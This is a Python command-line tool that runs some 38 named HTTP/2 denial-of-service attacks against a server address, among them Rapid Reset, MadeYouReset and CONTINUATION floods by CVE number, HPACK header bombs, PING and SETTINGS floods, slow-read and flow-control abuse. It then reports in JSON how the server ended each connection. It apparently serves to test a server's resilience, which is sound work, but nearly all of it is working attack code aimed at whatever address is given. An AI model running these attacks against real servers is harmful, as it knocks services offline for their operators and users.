#!/usr/bin/python3
"""h2attack: what a client of HTTP/2 can do to a server that it means to harm.

    h2attack.py NAME ADDR:PORT [--cafile FILE] [--seconds S] [--connections N]    by TLS with --cafile, else cleartext by prior knowledge
    h2attack.py list                                                               the names

N connections at a time, each begun anew when the server has ended it. Prints JSON: connections, outcomes (how each ended: "goaway CODE",
"closed", "open": the server let it be, "refused": not even accepted), bytes sent, and which frames came, resets by their code.
"""
import argparse
import collections
import json
import os
import socket
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import h2raw
from h2raw import DATA, HEADERS, CONTINUATION, RST_STREAM, GOAWAY, SETTINGS, PING, END_HEADERS, PADDED, LARGEST, frame

AT_ONCE = 200     # frames or streams of one piece
PAUSE = 0.25      # between two connections of one worker: handshakes are no attack on HTTP/2


class Run:
    """One connection of an attack, until its time is over or the server has had enough."""

    def __init__(self, peer, until, counts):
        self.peer, self.until, self.counts, self.goaway = peer, until, counts, None
        self.first = 1
        peer.decoder = None  # nobody wants to know

    def over(self):
        return self.peer.over or self.goaway is not None or time.monotonic() >= self.until

    def read(self, seconds=0.0):
        """Takes what came; nothing is acknowledged."""
        for got in self.peer.frames(seconds, polite=False):
            name = {RST_STREAM: "reset", GOAWAY: "goaway"}.get(got.kind)
            self.counts[name + " " + h2raw.error_name(got.code()) if name else str(got.kind)] += 1
            # A graceful end says so first with the largest number, and goes on.
            if got.kind == GOAWAY and not (got.last() == LARGEST and got.code() == 0):
                self.goaway = h2raw.error_name(got.code())
                return

    def send(self, data, reading=True):
        self.peer.send(data, min(2, max(0.1, self.until - time.monotonic())), reading)
        if reading:
            self.read()

    def streams(self, count=AT_ONCE):
        """The numbers of streams that were not used yet."""
        first, self.first = self.first, self.first + 2 * count
        return range(first, self.first, 2)

    def repeat(self, piece, reading=True):
        while not self.over():
            self.send(piece, reading)

    def each(self, piece_of, count=AT_ONCE, reading=True):
        """piece_of(stream) for new streams, on and on."""
        while not self.over():
            self.send(b"".join(piece_of(n) for n in self.streams(count)), reading)

    def hold(self):
        while not self.over():
            self.read(0.5)

    def outcome(self):
        if self.goaway is None:
            self.read(0.5)
        if self.goaway is not None:
            return "goaway " + self.goaway
        return "closed" if self.peer.over else "open"


GET = h2raw.block(*h2raw.fields())
POST = h2raw.block(*h2raw.fields("POST", "/upload"))


def rapid_reset(run):
    """CVE-2023-44487: streams are opened and reset at once."""
    run.peer.begin()
    run.each(lambda n: h2raw.headers(n, GET) + h2raw.reset(n))


def made_you_reset(run):
    """CVE-2025-8671: streams are opened, then the server is made to reset them by a window that overflows."""
    run.peer.begin()
    run.each(lambda n: h2raw.headers(n, POST, end=False) + h2raw.window_update(n, LARGEST))


def made_you_reset_length(run):
    """The same by more body than was declared."""
    head = POST + h2raw.block(("content-length", "1"))
    run.peer.begin()
    run.each(lambda n: h2raw.headers(n, head, end=False) + frame(DATA, 0, n, b"two"))


def malformed_requests(run):
    """Requests without a path, one after the other."""
    head = h2raw.block((":method", "GET"), (":scheme", "https"))
    run.peer.begin()
    run.each(lambda n: h2raw.headers(n, head))


def settings_flood(run):
    """SETTINGS that want to be acknowledged, and the acknowledgements are not read."""
    run.peer.begin()
    run.repeat(h2raw.settings() * AT_ONCE, reading=False)


def settings_flood_read(run):
    run.peer.begin()
    run.repeat(h2raw.settings((h2raw.HEADER_TABLE_SIZE, 0), (h2raw.HEADER_TABLE_SIZE, 4096)) * AT_ONCE)


def ping_flood(run):
    """PING that want to be answered, and the answers are not read."""
    run.peer.begin()
    run.repeat(frame(PING, 0, 0, b"pingpong") * AT_ONCE, reading=False)


def ping_flood_read(run):
    run.peer.begin()
    run.repeat(frame(PING, 0, 0, b"pingpong") * AT_ONCE)


def empty_data(run):
    """DATA without a byte, on a request that does not end."""
    run.peer.begin()
    run.send(h2raw.headers(1, POST, end=False))
    run.repeat(frame(DATA, 0, 1) * AT_ONCE)


def padded_data(run):
    """DATA of padding only."""
    run.peer.begin()
    run.send(h2raw.headers(1, POST, end=False))
    run.repeat(frame(DATA, PADDED, 1, b"\xff" + bytes(255)) * AT_ONCE)


def unwanted_body(run):
    """A body without end for a request that nobody wants."""
    run.peer.begin()
    run.send(h2raw.headers(1, POST, end=False))
    run.repeat(frame(DATA, 0, 1, bytes(8192)) * 8)


def empty_headers(run):
    """HEADERS without a header."""
    run.peer.begin()
    run.each(lambda n: h2raw.headers(n, b"", end=False))


def trailers(run):
    """HEADERS of trailers on a request again and again."""
    run.peer.begin()
    run.send(h2raw.headers(1, POST, end=False))
    run.repeat(h2raw.headers(1, h2raw.block(("x", "y")), end=False) * AT_ONCE)


def continuation_flood(run):
    """A head that never ends, CVE-2024-27983 and its kin."""
    run.peer.begin()
    run.send(h2raw.headers(1, GET, flags=0))
    run.repeat(frame(CONTINUATION, 0, 1, h2raw.block(*(("x-%d" % i, "y" * 64) for i in range(100)))))


def continuation_empty(run):
    run.peer.begin()
    run.send(h2raw.headers(1, GET, flags=0))
    run.repeat(frame(CONTINUATION, 0, 1) * AT_ONCE)


def half_heads(run):
    """Heads that end in the middle, and nothing more."""
    run.peer.begin()
    run.send(h2raw.headers(1, GET, flags=0))
    run.hold()


def header_bomb(run):
    """A field of 4,000 bytes enters the table once, then one byte stands for it, 8,000 times in each head."""
    large = b"\x40" + h2raw.text("x") + h2raw.text("a" * 4000)
    run.peer.begin()
    run.send(h2raw.headers(1, GET + large))
    run.first = 3
    run.each(lambda n: h2raw.headers(n, GET + b"\xbe" * 8000), 4)


def cookie_bomb(run):
    """As many cookies as fit into a frame."""
    head = GET + b"\x40" + h2raw.text("cookie") + h2raw.text("a=b")
    run.peer.begin()
    run.each(lambda n: h2raw.headers(n, (head if n == 1 else GET) + b"\xbe" * 8000), 4)


def many_headers(run):
    """As many short headers as fit into a frame."""
    head = GET + h2raw.block(*(("x", "") for _ in range(3000)))
    run.peer.begin()
    run.each(lambda n: h2raw.headers(n, head), 4)


def window_none(run):
    """Requests whose answers may not be sent: no window, and none comes."""
    run.peer.begin((h2raw.INITIAL_WINDOW_SIZE, 0))
    run.send(b"".join(h2raw.headers(n, GET) for n in run.streams(100)))
    run.hold()


def window_bytes(run):
    """Answers are taken byte by byte."""
    run.peer.begin((h2raw.INITIAL_WINDOW_SIZE, 0))
    while not run.over():
        streams = run.streams(50)
        run.send(b"".join(h2raw.headers(n, GET) for n in streams))
        for _ in range(10):
            run.send(b"".join(h2raw.window_update(n, 1) for n in streams))


def window_flood(run):
    run.peer.begin()
    run.repeat(h2raw.window_update(0, 1) * AT_ONCE)


def window_overflow(run):
    run.peer.begin()
    run.send(h2raw.window_update(0, LARGEST) * 2)
    run.hold()


def window_swing(run):
    """The window of 100 waiting streams is changed by SETTINGS again and again."""
    run.peer.begin((h2raw.INITIAL_WINDOW_SIZE, 0))
    run.send(b"".join(h2raw.headers(n, GET) for n in run.streams(100)))
    run.repeat((h2raw.settings((h2raw.INITIAL_WINDOW_SIZE, 1)) + h2raw.settings((h2raw.INITIAL_WINDOW_SIZE, 0))) * 50)


def priority_flood(run):
    run.peer.begin()
    run.each(lambda n: h2raw.priority(n, 0))


def priority_update_flood(run):
    """PRIORITY_UPDATE (RFC 9218) of streams that are not there."""
    run.peer.begin()
    run.each(lambda n: frame(16, 0, 0, n.to_bytes(4, "big") + b"u=1"))


def depends_on_itself(run):
    run.peer.begin()
    run.each(lambda n: h2raw.priority(n, n) + h2raw.headers(n, n.to_bytes(4, "big") + b"\x10" + GET, flags=END_HEADERS | h2raw.PRIORITIZED))


def too_many_streams(run):
    """More streams at a time than allowed."""
    run.peer.begin()
    run.read(0.2)
    run.send(frame(SETTINGS, h2raw.ACK))
    run.each(lambda n: h2raw.headers(n, POST, end=False))


def half_open(run):
    """As many requests as allowed whose bodies never come."""
    run.peer.begin()
    run.send(b"".join(h2raw.headers(n, POST, end=False) for n in run.streams(100)))
    run.hold()


def huge_frame(run):
    run.peer.begin()
    run.send(h2raw.headers(1, POST, end=False) + frame(DATA, 0, 1, bytes(1 << 20)))
    run.hold()


def unknown_frames(run):
    run.peer.begin()
    run.repeat(frame(0xfa, 0xff, 0, bytes(100)) * AT_ONCE)


def slow_read(run):
    """Requests on and on, and not one answer is read."""
    run.peer.begin((h2raw.INITIAL_WINDOW_SIZE, LARGEST))
    run.peer.send(h2raw.window_update(0, LARGEST - 65535), reading=False)
    run.each(lambda n: h2raw.headers(n, GET), reading=False)


def goaway_then_more(run):
    run.peer.begin()
    run.send(h2raw.goaway())
    run.each(lambda n: h2raw.headers(n, GET))


def request_flood(run):
    """Requests as they should be, as fast as they go, all answers read: load, no attack."""
    run.peer.begin()
    run.send(h2raw.window_update(0, LARGEST - 65535))
    while not run.over():
        wanted = run.counts["1"] + 50
        run.send(b"".join(h2raw.headers(n, GET) for n in run.streams(50)))
        while run.counts["1"] < wanted and not run.over():
            run.read(0.05)


def garbage_preface(run):
    run.peer.send(b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n" + os.urandom(4000))
    run.hold()


def garbage_frames(run):
    run.peer.begin()
    run.repeat(os.urandom(4000))


def preface_only(run):
    """The preface, and nothing more."""
    run.peer.send(h2raw.PREFACE)
    run.hold()


def upgrade_h2c(run):
    """Upgrade: h2c, which RFC 9113 has abolished."""
    run.peer.send(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
                  b"HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n")
    until = time.monotonic() + 2
    while b"\r\n\r\n" not in run.peer.inbox and not run.peer.over and time.monotonic() < until:
        run.peer.wait(0.1)
        run.peer.take()
    run.counts["status " + bytes(run.peer.inbox[9:12]).decode("ascii", "replace")] += 1
    run.peer.inbox.clear()


HTTP1 = (upgrade_h2c,)
ATTACKS = {f.__name__.replace("_", "-"): f for f in (
    rapid_reset, made_you_reset, made_you_reset_length, malformed_requests, settings_flood, settings_flood_read, ping_flood, ping_flood_read,
    empty_data, padded_data, unwanted_body, empty_headers, trailers, continuation_flood, continuation_empty, half_heads, header_bomb, cookie_bomb,
    many_headers, window_none, window_bytes, window_flood, window_overflow, window_swing, priority_flood, priority_update_flood, depends_on_itself,
    too_many_streams, half_open, huge_frame, unknown_frames, slow_read, goaway_then_more, request_flood, garbage_preface, garbage_frames,
    preface_only, upgrade_h2c)}


def worker(attack, target, until, tally):
    while time.monotonic() < until:
        try:
            peer = h2raw.Peer(target)
        except (OSError, ValueError):
            tally.add("refused", 0, {})
            time.sleep(PAUSE)
            continue
        run = Run(peer, until, collections.Counter())
        attack(run)
        outcome = run.outcome()
        peer.close()
        tally.add(outcome, peer.sent, run.counts)
        time.sleep(PAUSE)


class Tally:
    def __init__(self):
        self.lock, self.outcomes, self.frames, self.bytes = threading.Lock(), collections.Counter(), collections.Counter(), 0

    def add(self, outcome, sent, frames):
        with self.lock:
            self.outcomes[outcome] += 1
            self.frames.update(frames)
            self.bytes += sent


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("name", choices=[*ATTACKS, "list"])
    parser.add_argument("where", nargs="?")
    parser.add_argument("--cafile")
    parser.add_argument("--seconds", type=float, default=3)
    parser.add_argument("--connections", type=int, default=10)
    options = parser.parse_args()
    if options.name == "list":
        print("\n".join(ATTACKS))
        return
    os.nice(10)  # it is the server that is looked at
    attack, tally = ATTACKS[options.name], Tally()
    target = h2raw.Target(options.where, options.cafile, ("http/1.1",) if attack in HTTP1 else ("h2",))
    until = time.monotonic() + options.seconds
    workers = [threading.Thread(target=worker, args=(attack, target, until, tally)) for _ in range(options.connections)]
    for thread in workers:
        thread.start()
    for thread in workers:
        thread.join()
    print(json.dumps({"attack": options.name, "connections": sum(tally.outcomes.values()), "outcomes": dict(tally.outcomes),
                      "bytes": tally.bytes, "frames": dict(tally.frames)}))


if __name__ == "__main__":
    socket.setdefaulttimeout(10)
    main()
